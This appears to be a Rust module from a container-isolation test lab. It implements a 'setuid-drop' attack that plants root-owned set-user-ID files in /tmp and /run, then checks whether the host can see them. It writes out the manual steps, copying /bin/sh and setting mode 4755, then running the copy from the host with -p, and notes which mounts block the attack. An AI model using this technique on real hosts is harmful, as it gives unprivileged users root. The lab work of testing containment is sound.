//! setuid-drop: leave a set-user-ID program behind for a user of the host.

use super::{Attack, Attempt, Measured, Need};
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::libc;
use nix::sys::stat::{Mode, fchmod};
use std::fs::{self, File};

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "setuid-drop",
    stake: "Root on the host, for any user of it who can reach the container's directory.",
    story: "The attacker makes a file of root's with the set-user-ID bit in /tmp and in /run. Inside it gains \
            nothing by it: it is root already. But those directories lie in a directory of the host, where the \
            container's flag `nosuid` does not count, and an accomplice without rights executes the file there. \
            On a tmpfs of the container's own the file is nowhere on the host, and ends with the container. The \
            host looks through its own file tree.",
    by_hand: &["cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh", "rootfs/tmp/sh -p    # on the host, as anybody"],
    stopped_by: &["lab2-mounts/tmp", "lab2-mounts/run"],
    after: &[],
    man: &["chmod(2)", "inode(7)", "tmpfs(5)"],
    letters: Measured { root: "E EEBBBBB", user: "E EEBBBBB", rootless: "E EEBBBBB" },
    needs: &[Need::FreshHost, Need::SetuidFiles],
    decisive: &[libc::SYS_fchmod],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let mut files = Vec::new();
    for directory in ["/tmp", "/run"] {
        me.keeps_out_of_devtmpfs(directory)?;
        let _ = fs::create_dir(directory);
        files.extend(File::create(format!("{directory}/{}", me.mark())));
    }
    let last = files.pop().ok_or(Errno::ENOENT)?;
    me.decisive("fchmod(04755) on a new file in /tmp and in /run");
    let mode = Mode::S_ISUID | Mode::from_bits_truncate(0o755);
    for file in &files {
        // The host sees a success by itself.
        let _ = fchmod(file, mode);
    }
    fchmod(last, mode)
}

fn witness(host: &Host) -> Seen {
    if let Some(file) = host.setuid_files.iter().find(|file| file.ends_with(&host.mark)) {
        let directory = file.trim_end_matches(&host.mark);
        return Seen::Effect(format!("a set-user-ID file of root's lies in {directory} of the host"));
    }
    if host.call_succeeded() {
        return Seen::Confined(
            "the file was made, and the host's own file tree has no such file of root's".into(),
        );
    }
    Seen::Nothing
}
